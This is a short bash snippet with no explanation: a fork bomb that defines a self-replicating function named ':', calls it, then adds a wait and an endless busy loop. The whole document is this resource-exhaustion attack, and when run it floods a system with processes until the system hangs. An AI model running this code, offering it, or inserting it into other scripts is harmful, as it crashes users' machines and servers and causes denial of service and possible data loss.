:() { : | : & }
:
wait
while :; do :; done
